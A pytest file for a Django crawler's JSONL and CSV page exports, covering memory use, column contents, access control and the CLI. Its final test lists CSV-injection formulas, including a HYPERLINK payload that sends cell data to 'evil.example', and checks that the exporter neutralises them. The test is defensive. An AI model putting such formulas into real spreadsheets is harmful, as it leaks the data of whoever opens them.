"""Exports of a crawl's pages: JSONL and CSV, streamed in constant memory, from the crawl page,
the API and the CLI."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
from datetime import timedelta

import pytest
from asgiref.sync import async_to_sync
from django.core.management import CommandError, call_command
from django.test import AsyncClient
from django.utils import timezone

from crawlhub import tokens
from crawls import services
from crawls.engine.rows import PAGE_ROWS
from crawls.models import Page

pytestmark = pytest.mark.django_db

# Sizes past two chunks of rows (exports.CHUNK_ROWS), where the peak is the same whatever the
# size (3.7 MB for JSONL, 4.0 for CSV from 4,000 to 40,000 rows, within 5 and 70 kB).
SMALL, LARGE = 4_000, 20_000
# The larger export may peak this much above the smaller: 12 bytes a row over the 16,000 rows
# between them, so a leak of as little as a small object per row shows (the whole rows would be
# megabytes). bench/export_memory.py measures 100,000 and 1,000,000 rows.
MARGIN = 192 * 1024


def make_crawl(user, **options):
    return services.crawl_create(
        user=user, name="export", seeds=["http://127.0.0.1:9/"], obey_robots=False, **options
    )


def add_pages(crawl, count: int, *, offset: int = 0, batch: int = 5000) -> None:
    """Pages offset .. offset+count-1 of a crawl, written as the slices write theirs."""
    start = timezone.now() - timedelta(hours=1)
    for first in range(offset, offset + count, batch):
        PAGE_ROWS.write(
            [
                PAGE_ROWS.row(
                    Page(
                        crawl=crawl,
                        url=f"http://127.0.0.1:9/page/{n}?q={n}",
                        final_url="",
                        status=200 if n % 10 else 404,
                        content_type="text/html",
                        bytes=1000 + n,
                        elapsed_ms=n % 500,
                        depth=n % 5,
                        referrer="http://127.0.0.1:9/",
                        fetched_at=start + timedelta(milliseconds=n),
                        url_hash=f"{n:040d}",
                        title=f'Page {n}, with a comma and "quotes" — ' + "x" * 60,
                        redirects=["http://127.0.0.1:9/old"] if n % 7 == 0 else [],
                        redirect_to="http://127.0.0.1:9/next" if n % 7 == 1 else "",
                    )
                )
                for n in range(first, min(first + batch, offset + count))
            ]
        )


def consume(chunks) -> tuple[int, int, bytes, bytes]:
    """(bytes, newlines, first chunk, last chunk) without keeping the stream."""
    size = lines = 0
    first = last = b""
    for chunk in chunks:
        first = first or chunk
        last = chunk
        size += len(chunk)
        lines += chunk.count(b"\n")
    return size, lines, first, last


def peak_while(fn):
    tracemalloc.start()
    try:
        tracemalloc.reset_peak()
        base = tracemalloc.get_traced_memory()[0]
        result = fn()
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    return result, peak - base


@pytest.mark.slow
def test_the_export_memory_does_not_grow_with_the_crawl(user, user_client, client):
    """JSONL from the crawl page and CSV from the API, each at SMALL then at LARGE rows: the
    peak of traced memory while streaming stays the same, within MARGIN."""
    crawl = make_crawl(user)
    _, raw = tokens.token_create(user=user, name="t")

    def export(fmt: str):
        if fmt == "jsonl":
            response = user_client.get(f"/crawls/{crawl.pk}/export.jsonl")
            disposition = f'attachment; filename="crawl-{crawl.pk}.jsonl"'
            assert response["Content-Disposition"] == disposition
        else:
            response = client.get(
                f"/api/crawls/{crawl.pk}/export/?format=csv", HTTP_AUTHORIZATION=f"Bearer {raw}"
            )
            assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert response.status_code == 200 and response.streaming
        return peak_while(lambda: consume(response.streaming_content))

    header = {"jsonl": 0, "csv": 1}
    peaks: dict[str, list[int]] = {"jsonl": [], "csv": []}
    # The first export of a process allocates once what later ones reuse (0.4 MB of JSONL's
    # peak), and a longer one may once grow a buffer a shorter one never needed (PostgreSQL's
    # cursor: 0.39 MB once at 20,000 rows): exports of the larger crawl come first, then
    # each size is measured, larger first, the pages past SMALL then deleted.
    add_pages(crawl, LARGE)
    for fmt in ("jsonl", "csv"):
        export(fmt)
    for rows in (LARGE, SMALL):
        if past := list(crawl.pages.order_by("pk").values_list("pk", flat=True)[rows : rows + 1]):
            crawl.pages.filter(pk__gte=past[0]).delete()
        for fmt in ("jsonl", "csv"):
            (size, lines, first, last), peak = export(fmt)
            # No newline inside a value here: one line per row, plus the CSV header.
            assert lines == rows + header[fmt], f"{fmt} at {rows} rows: {lines} lines"
            peaks[fmt].append(peak)
            if rows == LARGE:  # never the whole export in memory at once
                assert size > peak, f"{fmt}: {size} bytes streamed with a {peak} B peak"
    assert first.startswith(b"id,url,final_url,status,"), "the last export, CSV, has its header"
    for fmt, (large, small) in peaks.items():
        assert large <= small + MARGIN, (
            f"{fmt} export: peak {large / 1e6:.2f} MB at {LARGE} rows against "
            f"{small / 1e6:.2f} MB at {SMALL}: memory grows with the number of rows"
        )


def test_jsonl_starts_and_ends_with_the_first_and_last_page(user, user_client):
    crawl = make_crawl(user)
    add_pages(crawl, 5000)
    response = user_client.get(f"/crawls/{crawl.pk}/export.jsonl")
    size, lines, first, last = consume(response.streaming_content)
    assert lines == 5000
    assert json.loads(first.split(b"\n")[0])["url"] == "http://127.0.0.1:9/page/0?q=0"
    assert json.loads(last.rstrip(b"\n").split(b"\n")[-1])["id"] == crawl.pages.last().pk


def test_under_asgi_the_export_is_an_async_stream(user):
    """Django would read a sync iterator to its end before sending it under ASGI."""
    crawl = make_crawl(user)
    add_pages(crawl, 5000)
    client = AsyncClient()
    client.force_login(user)

    async def fetch() -> tuple[bool, bytes]:
        response = await client.get(f"/crawls/{crawl.pk}/export.jsonl")
        assert response.status_code == 200
        return response.is_async, b"".join([c async for c in response.streaming_content])

    is_async, body = async_to_sync(fetch)()
    assert is_async
    assert body.count(b"\n") == 5000


def test_jsonl_has_every_column_of_every_page(user, user_client):
    crawl = make_crawl(user)
    add_pages(crawl, 8)
    body = b"".join(user_client.get(f"/crawls/{crawl.pk}/export.jsonl").streaming_content)
    rows = [json.loads(line) for line in body.decode().splitlines()]
    assert [r["url"] for r in rows] == [f"http://127.0.0.1:9/page/{n}?q={n}" for n in range(8)]
    assert rows[7]["redirects"] == ["http://127.0.0.1:9/old"]
    assert (rows[1]["redirect_to"], rows[2]["redirect_to"]) == ("http://127.0.0.1:9/next", "")
    assert rows[0]["status"] == 404 and rows[1]["status"] == 200
    assert rows[3]["title"].startswith('Page 3, with a comma and "quotes" —')
    page = crawl.pages.get(url_hash=f"{2:040d}")
    assert rows[2]["fetched_at"] == page.fetched_at.isoformat()
    assert "body" not in rows[0]


def test_csv_quotes_values_and_reads_back(user, user_client):
    crawl = make_crawl(user)
    add_pages(crawl, 8)
    Page.objects.filter(crawl=crawl, url_hash=f"{1:040d}").update(title='two\nlines, "quoted"')
    body = b"".join(user_client.get(f"/crawls/{crawl.pk}/export.csv").streaming_content)
    rows = list(csv.DictReader(io.StringIO(body.decode())))
    assert len(rows) == 8
    assert rows[1]["title"] == 'two\nlines, "quoted"'
    assert json.loads(rows[7]["redirects"]) == ["http://127.0.0.1:9/old"]
    assert rows[1]["redirects"] == ""
    assert (rows[1]["redirect_to"], rows[2]["redirect_to"]) == ("http://127.0.0.1:9/next", "")
    assert rows[0]["status"] == "404"


def test_another_users_crawl_cannot_be_exported(user, other_user, client, staff_client):
    crawl = make_crawl(other_user)
    add_pages(crawl, 3)
    client.force_login(user)
    assert client.get(f"/crawls/{crawl.pk}/export.jsonl").status_code == 404
    assert staff_client.get(f"/crawls/{crawl.pk}/export.jsonl").status_code == 200


def test_an_unknown_format_is_refused(user, user_client):
    crawl = make_crawl(user)
    response = user_client.get(f"/crawls/{crawl.pk}/export.xml")
    assert response.status_code == 409
    assert "Unknown export format 'xml'" in response.content.decode()


def test_the_cli_exports_to_a_file_and_to_stdout(user, tmp_path):
    crawl = make_crawl(user)
    add_pages(crawl, 50)
    target = tmp_path / "pages.csv"
    out = io.StringIO()
    call_command(
        "crawl", "export", str(crawl.pk), "--format", "csv", "--output", str(target), stdout=out
    )
    assert f"to {target}" in out.getvalue()
    assert len(list(csv.DictReader(target.open()))) == 50
    stdout = io.BytesIO()
    call_command("crawl", "export", str(crawl.pk), "--output", "-", stdout=stdout)
    lines = stdout.getvalue().decode().splitlines()
    assert len(lines) == 50 and json.loads(lines[0])["depth"] == 0


def test_the_cli_says_why_a_crawl_without_bodies_has_no_warc(user, tmp_path):
    crawl = make_crawl(user)
    with pytest.raises(CommandError, match="does not keep response bodies"):
        call_command(
            "crawl",
            "export",
            str(crawl.pk),
            "--format",
            "warc",
            "--output",
            str(tmp_path / "x.warc.gz"),
        )
    assert not (tmp_path / "x.warc.gz").exists()
    with pytest.raises(CommandError, match="no crawl with id 999"):
        call_command("crawl", "export", "999", "--output", str(tmp_path / "x"))


FORMULAS = [
    "=1+1",
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
]


def test_csv_cells_that_start_like_a_formula_are_read_as_text(user, user_client):
    """OWASP's CSV injection rule, in every text column: a cell starting with = + - @, a tab
    or a carriage return gets a leading single quote. JSONL keeps the values as fetched."""
    crawl = make_crawl(user)
    add_pages(crawl, len(FORMULAS) + 1)
    pages = list(crawl.pages.order_by("id"))
    for page, formula in zip(pages, FORMULAS, strict=False):
        Page.objects.filter(pk=page.pk).update(
            title=formula,
            error=formula,
            content_type=formula,
            referrer=formula,
            final_url=formula,
            url=f"{formula}/{page.pk}",
        )
    Page.objects.filter(pk=pages[-1].pk).update(title="a;=1+1", error="x=y", status=None)
    body = b"".join(user_client.get(f"/crawls/{crawl.pk}/export.csv").streaming_content)
    rows = list(csv.DictReader(io.StringIO(body.decode(), newline="")))
    for row, formula in zip(rows, FORMULAS, strict=False):
        # These pages got a status: what went wrong with them is a note, not an error.
        for column in ("title", "note", "content_type", "referrer", "final_url"):
            assert row[column] == "'" + formula, (column, row[column])
        assert row["url"].startswith("'" + formula)
        assert row["status"] in ("200", "404") and row["bytes"].isdigit()
    last = rows[-1]
    assert last["title"] == "a;=1+1" and last["error"] == "x=y" and last["status"] == ""
    # Quoted, so a spreadsheet that splits on ";" keeps the title in one cell.
    assert b'"a;=1+1"' in body
    jsonl = b"".join(user_client.get(f"/crawls/{crawl.pk}/export.jsonl").streaming_content)
    titles = [json.loads(line)["title"] for line in jsonl.decode().splitlines()]
    assert titles[: len(FORMULAS)] == FORMULAS
